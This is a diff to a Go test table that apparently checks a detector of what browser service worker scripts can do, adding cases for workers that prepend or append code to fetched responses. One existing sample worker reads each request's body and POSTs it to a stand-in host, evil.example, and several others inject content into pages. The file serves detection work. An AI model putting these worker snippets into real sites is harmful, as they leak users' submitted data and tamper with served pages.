@@ -87,6 +87,12 @@ func TestWhatAReaderAndAWorkerCanDo(t *testing.T) {
 		"a cache":              {"service_worker", `self.addEventListener('fetch', e => e.respondWith(caches.match(e.request).then(r => r || fetch(e.request))))`, nil, ""},
 		"reads what is posted": {"service_worker", `self.onfetch = e => { e.request.clone().text().then(t => fetch('https://evil.example/', {method: 'POST', body: t})) }`, nil, "reads requests sends evil.example"},
 		"changes pages":        {"service_worker", `self.onfetch = e => e.respondWith(fetch(e.request).then(r => r.text()).then(t => new Response(t.replace('</body>', x + '</body>'))))`, nil, "rewrites pages"},
+		"adds to a script":     {"service_worker", `const more = async e => { const r = await fetch(e.request); return new Response(await r.text() + ';' + extra, {headers: r.headers}) }`, nil, "rewrites pages"},
+		"adds to a kept one":   {"service_worker", "const more = async e => { const r = await fetch(e.request), body = await r.text(); return new Response(`${body};${extra}`, {headers: r.headers}) }", nil, "rewrites pages"},
+		"puts one before":      {"service_worker", `self.onfetch = e => e.respondWith(fetch(e.request).then(r => r.text()).then(text => new Response(extra + text)))`, nil, "rewrites pages"},
+		"wraps with headers":   {"service_worker", `const wrap = async e => { const r = await fetch(e.request); const text = await r.text(); return new Response(text, {status: r.status + 0, headers: head(r)}) }`, nil, ""},
+		"a page when offline":  {"service_worker", "const n = Number(await hits.text()) + 1; const away = () => new Response(`<h1>${title}</h1>` + hint, {status: 503})", nil, ""},
+		"counts":               {"service_worker", `const seen = async c => { const n = Number(await (await c.match(key)).text()) + 1; await c.put(key, new Response(String(n))) }`, nil, ""},
 	} {
 		var got []string
 		for _, can := range sorted(learnt(browser.Script{Target: c.target, Source: c.source}, c.did, ourShop)) {
